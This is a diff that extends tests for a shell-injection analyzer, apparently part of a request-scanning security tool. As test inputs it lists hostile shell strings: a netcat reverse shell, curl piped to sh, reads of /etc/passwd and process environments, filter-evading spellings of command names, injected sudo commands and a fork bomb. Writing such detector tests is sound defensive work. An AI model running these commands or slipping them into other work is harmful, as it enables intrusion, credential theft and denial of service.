@@ -41,13 +41,78 @@ describe("shell analyzer", () => {
     expect(s('<!--#include virtual="/etc/passwd" -->')).toBeGreaterThanOrEqual(0.8);
   });
 
-  test("a value that is the whole command counts only with shell syntax, and less", () => {
-    expect(s("nc -e /bin/sh 198.51.100.7 4444")).toBe(0.8);
-    expect(s("cat /etc/passwd > /tmp/x")).toBe(0.7);
-    expect(s("perl -e 'print 1'")).toBe(0.75);
+  test("a value that is the whole command counts only with shell syntax around it", () => {
+    expect(s("nc -e /bin/sh 198.51.100.7 4444")).toBe(0.9);
+    expect(s("cat /etc/passwd > /tmp/x")).toBe(0.9);
+    expect(s("perl -e 'print 1'")).toBe(0.85);
+    expect(s("cat /etc/hosts.allow | grep x")).toBe(0.9);
     expect(s("ls")).toBe(0);
     expect(s("whoami")).toBe(0);
     expect(s("Del Nuevo Mundo S/N")).toBe(0);
+  });
+
+  test("a command line aimed at the system: system paths, the root, glob paths as arguments", () => {
+    for (const v of ["cat /etc/passwd", "ls -la /", "find /etc -name shadow", "dd if=/proc/self/environ of=/tmp/x", "cat /etc/pa[s]swd", "more /[e]tc/issue", "type C:\\Windows\\win.ini"]) {
+      expect(s(v)).toBe(0.9);
+    }
+    // The same words as prose, with a slash that is no path.
+    for (const v of ["date / time", "which / what", "cat and dog", "ls is short for list", "set the time", "Find /Search"]) {
+      expect(s(v)).toBeLessThan(0.8);
+    }
+  });
+
+  test("interpreters with inline code, tools with flags or URLs, PowerShell cmdlets", () => {
+    expect(s("/usr/bin/python3 -m http.server")).toBe(0.8);
+    expect(s("uname -a")).toBe(0.8);
+    expect(s("ksh -c 'curl example.com'")).toBe(0.85);
+    expect(s("Invoke-WebRequest https://198.51.100.7/a.ps1")).toBe(0.85);
+    expect(s("Start-Process -FilePath calc")).toBe(0.85);
+    // A word command with plain words stays prose.
+    expect(s("sort -price")).toBeLessThan(0.8);
+    expect(s("echo hello")).toBe(0);
+  });
+
+  test("prefix commands run the command after them", () => {
+    expect(s("time sh -c whoami")).toBe(0.85);
+    expect(s("nohup ifconfig")).toBe(0.8);
+    expect(s("x;sudo whoami")).toBeGreaterThanOrEqual(0.85);
+    expect(s("time flies")).toBe(0);
+  });
+
+  test("command names spelled to dodge filters, as a whole value", () => {
+    for (const v of ["'wh'oami", "'c'url localhost", "cu$@rl example.com", "/???/??t /etc/issue", "/???/?s", "/usr/[a-z]in/bash", "$SHELL -c 'echo hi'", "${SHELL} -c id", "{,ifconfig}", "{cat,/etc/passwd}"]) {
+      expect(s(v)).toBeGreaterThanOrEqual(0.85);
+    }
+    // Quotes around a whole word, a field list in braces, an apostrophe in a name.
+    for (const v of ["\"ls\"", "{id,name}", "O'keefe's"]) expect(s(v)).toBeLessThan(0.8);
+  });
+
+  test("a pipe into a shell runs what came before it", () => {
+    expect(s("curl http://198.51.100.7/a.sh | sh")).toBe(0.9);
+    expect(s("printf dwssap/cte/ tac | rev | bash")).toBe(0.9);
+    // A list of names joined by pipes is no pipeline.
+    expect(s("python|php|sh")).toBeLessThan(0.8);
+    expect(s("rock | sh")).toBeLessThan(0.8);
+  });
+
+  test("closed substitutions around any command; closed backticks around a command with arguments", () => {
+    expect(s("x <(cat file)")).toBe(0.9);
+    expect(s("$(date)")).toBeGreaterThanOrEqual(0.9);
+    expect(s("a`cat notes.txt`")).toBe(0.8);
+    expect(s("$(document).ready(f)")).toBe(0);
+  });
+
+  test("cmd.exe batch constructs: FOR loops and IF comparisons of batch variables", () => {
+    expect(strongest(shellAnalyzer, "for /f \"tokens=*\" %G in ('dir /b') do echo %G")!.rule).toBe("shell.batch");
+    expect(s("FOR /L %%i IN (1,1,9) DO ping 10.0.0.%%i")).toBe(0.9);
+    expect(s("IF \"%~1\" == \"\" (EXIT /B 1)")).toBe(0.8);
+    for (const v of ["for the kids in (new) do it", "if 50% == half", "If not defined, the default is used"]) expect(s(v)).toBe(0);
+  });
+
+  test("a fork bomb: a function that calls itself in a pipe or the background, then is called", () => {
+    expect(strongest(shellAnalyzer, ":(){ :|:& };:")!.rule).toBe("shell.fork-bomb");
+    expect(s("boom(){ boom|boom& }; boom")).toBe(0.9);
+    expect(s("f(){ echo hi; }; f")).toBe(0);
   });
 
   test("English with separators is not a strong finding", () => {
@@ -70,6 +135,7 @@ describe("shell analyzer", () => {
     const big = "a ".repeat(500_000) + "x;cat /etc/passwd";
     expect(s(big)).toBeGreaterThanOrEqual(0.8);
     expect(s(";".repeat(1_000_000))).toBe(0);
+    expect(s("f(){ ".repeat(200_000))).toBe(0);
     expect(s("`".repeat(300_000) + "'".repeat(300_000))).toBeLessThan(0.8);
     expect(() => shellAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
     expect(s("")).toBe(0);
